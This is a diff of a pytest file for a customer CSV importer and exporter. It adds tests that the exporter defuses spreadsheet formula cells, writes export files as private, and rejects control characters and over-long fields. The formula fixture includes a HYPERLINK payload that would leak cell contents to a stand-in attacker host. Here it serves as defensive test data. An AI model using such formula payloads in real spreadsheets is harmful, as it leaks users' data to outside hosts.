@@ -131,7 +131,7 @@ def test_blank_lines_are_skipped_but_counted(services: Services, tmp_path: Path)
     )
     with pytest.raises(ImportRejected) as info:
         _importer(services).import_file(path)
-    assert info.value.rejected == ((4, "email", "invalid_email"),)
+    assert info.value.rejected == ((4, "email", "invalid_email", "b@"),)
 
 
 # ---- all or nothing -------------------------------------------------------------------------
@@ -154,10 +154,10 @@ def test_a_bad_row_rejects_the_whole_import(services: Services, tmp_path: Path) 
         _importer(services).import_file(_write(tmp_path / "bad.csv", BAD_FILE))
 
     assert info.value.rejected == (
-        (3, "email", "invalid_email"),
-        (4, "birthday", "invalid_date"),
-        (5, "phone", "invalid_phone"),
-        (6, "last_name", "required"),
+        (3, "email", "invalid_email", "bea@"),
+        (4, "birthday", "invalid_date", "31.02.1980"),
+        (5, "phone", "invalid_phone", "12"),
+        (6, "last_name", "required", ""),
     )
     assert count(services.db, m.Customer) == before == 1
 
@@ -169,10 +169,10 @@ def test_skip_invalid_imports_the_good_rows_and_reports_the_bad(
 
     assert report.imported == 2
     assert report.rejected == (
-        (3, "email", "invalid_email"),
-        (4, "birthday", "invalid_date"),
-        (5, "phone", "invalid_phone"),
-        (6, "last_name", "required"),
+        (3, "email", "invalid_email", "bea@"),
+        (4, "birthday", "invalid_date", "31.02.1980"),
+        (5, "phone", "invalid_phone", "12"),
+        (6, "last_name", "required", ""),
     )
     assert sorted(_by_last_name(services)) == ["Eder", "Müller"]
 
@@ -190,8 +190,8 @@ def test_duplicates_within_the_file_are_rejected(services: Services, tmp_path: P
     with pytest.raises(ImportRejected) as info:
         _importer(services).import_file(path)
     assert info.value.rejected == (
-        (3, "email", "duplicate_in_file"),
-        (4, "phone", "duplicate_in_file"),
+        (3, "email", "duplicate_in_file", "2"),
+        (4, "phone", "duplicate_in_file", "2"),
     )
     assert count(services.db, m.Customer) == 0
 
@@ -214,8 +214,8 @@ def test_duplicates_of_existing_customers_are_rejected(services: Services, tmp_p
     with pytest.raises(ImportRejected) as info:
         _importer(services).import_file(path)
     assert info.value.rejected == (
-        (2, "email", "duplicate_existing"),
-        (3, "phone", "duplicate_existing"),
+        (2, "email", "duplicate_existing", ""),
+        (3, "phone", "duplicate_existing", ""),
     )
     assert count(services.db, m.Customer) == 2
 
@@ -268,7 +268,7 @@ def test_export_writes_excel_friendly_csv(services: Services, tmp_path: Path) ->
         "Anna",
         "Müller",
         "anna@example.org",
-        "+4915112345678",
+        "'+4915112345678",  # a leading + would be a formula to a spreadsheet
         "1985-03-14",
         "Hauptstraße 5",
         "50667",
@@ -347,3 +347,115 @@ def test_round_trip_keeps_notes_with_quotes_and_line_breaks(
     imported = _round_trip(services, second_services, tmp_path)
 
     assert [(r.last_name, r.notes) for r in imported] == [("Müller", notes), ("Bauer", "")]
+
+
+# ---- formula cells (OWASP CSV injection) and private files -------------------------------
+FORMULAS = {
+    "first_name": '=HYPERLINK("http://evil.example/?"&A2)',
+    "last_name": "+SUM(1;2)",
+    "street": "-2+3",
+    "city": "@Köln",
+    "notes": "\tTab zuerst\r\n=Zeile zwei",
+}
+
+
+def _dangerous_customer(services: Services) -> CustomerRow:
+    return services.customers.create(
+        CustomerInput(
+            first_name=FORMULAS["first_name"],
+            last_name=FORMULAS["last_name"],
+            email="formel@example.org",
+            phone="0151 76543210",
+            street=FORMULAS["street"],
+            city=FORMULAS["city"],
+            notes=FORMULAS["notes"],
+        )
+    )
+
+
+def test_the_export_writes_formula_cells_as_text(services: Services, tmp_path: Path) -> None:
+    _dangerous_customer(services)
+    path = tmp_path / "export.csv"
+    export_customers(services.customers, path)
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        [row] = list(csv.DictReader(handle, delimiter=";"))
+    for field, value in FORMULAS.items():
+        assert row[field] == "'" + value, field
+    assert row["phone"] == "'+4915176543210"
+    # No cell of the file starts with a character a spreadsheet would evaluate.
+    for cell in row.values():
+        assert not cell or cell[0] not in "=+-@\t\r", cell
+
+
+def test_formula_cells_and_apostrophes_round_trip_exactly(
+    services: Services, second_services: Services, tmp_path: Path
+) -> None:
+    originals = [
+        _dangerous_customer(services),
+        add_customer(services, "'=schon", "'Conny", None, None, city="''+x"),
+        add_customer(services, "Jo", "D'Arcy", None, None, city="'"),
+    ]
+
+    imported = _round_trip(services, second_services, tmp_path)
+
+    assert [_comparable(r) for r in imported] == [_comparable(r) for r in originals]
+
+
+def test_a_spreadsheet_saved_apostrophe_before_a_plus_is_read_as_the_number(
+    services: Services, tmp_path: Path
+) -> None:
+    path = _write(tmp_path / "x.csv", "Vorname;Nachname;Telefon\nAnna;Müller;'+49 151 12345678\n")
+    assert _importer(services).import_file(path).imported == 1
+    assert _by_last_name(services)["Müller"].phone == "+4915112345678"
+
+
+def test_the_export_file_is_private(services: Services, tmp_path: Path) -> None:
+    _full_customer(services)
+    path = tmp_path / "export.csv"
+    path.write_text("old", encoding="utf-8")
+    path.chmod(0o644)  # an existing file is narrowed too
+    export_customers(services.customers, path)
+    assert path.stat().st_mode & 0o777 == 0o600
+    fresh = tmp_path / "fresh.csv"
+    export_customers(services.customers, fresh)
+    assert fresh.stat().st_mode & 0o777 == 0o600
+
+
+# ---- forbidden characters and over-long fields (issue 8, 3) ----------------------------------
+POISONED = (
+    "Vorname;Nachname;E-Mail;Notizen;Geburtstag\n"
+    "Anna;Müller;anna@example.org;ok;\n"  # line 2: fine
+    "Be\x00a;Bauer;bea@example.org;;\n"  # line 3: NUL (PostgreSQL refuses it)
+    "Carl;Clau\u2028sen;;;\n"  # line 4: a line separator in a one-line field
+    "Dora;Dietz;;" + "x" * 10_000 + ";\n"  # line 5: 10 kB of notes
+    "Emil;Eder;emil@example.org;Zeile 1\tTab;\x1b[31m\n"  # line 6: ESC in the birthday
+    "Fritz;Fuchs;fritz@example.org;;\n"  # line 7: fine
+)
+
+
+def test_forbidden_characters_and_long_fields_are_reported_by_code_and_limit(
+    services: Services, tmp_path: Path
+) -> None:
+    path = _write(tmp_path / "gift.csv", POISONED)
+    with pytest.raises(ImportRejected) as info:
+        _importer(services).import_file(path)
+    assert info.value.rejected == (
+        (3, "first_name", "control_characters", "U+0000"),
+        (4, "last_name", "control_characters", "U+2028"),
+        (5, "notes", "too_long", "4000"),
+        (6, "birthday", "control_characters", "U+001B"),
+    )
+    assert count(services.db, m.Customer) == 0  # nothing half-written
+
+    report = _importer(services).import_file(path, skip_invalid=True)
+    assert report.imported == 2
+    assert [r.line for r in report.rejected] == [3, 4, 5, 6]
+    assert sorted(_by_last_name(services)) == ["Fuchs", "Müller"]
+    for row in services.customers.all():
+        assert "\x00" not in row.first_name + row.last_name + row.notes
+
+
+def test_notes_keep_their_line_breaks_and_tabs(services: Services, tmp_path: Path) -> None:
+    path = _write(tmp_path / "x.csv", 'Vorname;Nachname;Notizen\nAnna;Müller;"Farbe:\n\t7/1"\n')
+    assert _importer(services).import_file(path).imported == 1
+    assert _by_last_name(services)["Müller"].notes == "Farbe:\n\t7/1"
